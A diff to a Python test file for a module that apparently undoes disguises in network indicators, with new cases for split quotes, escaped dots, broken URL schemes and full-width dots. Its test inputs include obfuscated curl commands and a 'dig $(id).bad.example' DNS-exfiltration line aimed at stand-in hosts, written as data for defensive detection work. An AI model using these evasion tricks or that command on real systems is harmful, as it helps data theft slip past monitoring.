@@ -1,5 +1,7 @@
 """Claims about `herma.policy.indicator.disguise`."""
 
+import json
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -21,6 +23,16 @@ MEANT = {
     "43.228. 79.77": "43.228.79.77",
     "43.228.\\\n79.77": "43.228.79.77",
     "43.228.\\\r\n79.77": "43.228.79.77",
+    'curl bad""guy.example': "curl badguy.example",
+    "curl bad''guy.example": "curl badguy.example",
+    'get("bad" + "guy.example")': 'get("badguy.example")',
+    "get('bad'+'guy.example')": "get('badguy.example')",
+    "curl bad\\guy\\.example": "curl badguy.example",
+    "curl http:/bad.example": "curl http://bad.example",
+    "open https:\\/bad.example": "open https://bad.example",
+    "dig $(id).bad.example": "dig $(id) bad.example",
+    "ping a.b.c.d.e.f.g.h.i.j.k.l.bad.example": "ping k.l.bad.example",
+    "bad\u3002example": "bad.example",
 }
 
 
@@ -30,12 +42,14 @@ def test_a_disguise_is_undone(text: str, meant: str) -> None:
     assert undisguised(text) == meant
 
 
-@pytest.mark.parametrize(
-    "text", [text for text in MEANT if "\\" not in text and " ." not in text and ". " not in text]
-)
+# The name or a part of it stands in these as it is.
+_SHOWN = ("\\", " .", ". ", "http:/b", ").", ".l.", "\u3002")
+
+
+@pytest.mark.parametrize("text", [text for text in MEANT if not any(sign in text for sign in _SHOWN)])
 def test_the_raw_bytes_show_that_there_may_be_one(text: str) -> None:
     """Cuts are looked for in entries only; a backslash is a sign of its own."""
-    assert any(sign.search(text.encode()) for sign in HIDING_BYTES)
+    assert any(sign.search(json.dumps(text).encode()) for sign in HIDING_BYTES)
 
 
 @pytest.mark.parametrize(
@@ -55,5 +69,5 @@ def test_cuts_of_a_long_text_are_prose(monkeypatch: pytest.MonkeyPatch) -> None:
 
 @given(st.text("hx*p:[]().0{}<>dotat@ \\\n19", max_size=60))
 def test_a_text_never_grows(text: str) -> None:
-    """What is looked at once more costs as much at most."""
-    assert len(undisguised(text)) <= len(text)
+    """What is looked at once more costs as much at most, but for a slash behind a scheme."""
+    assert len(undisguised(text)) <= len(text) + text.count(":")
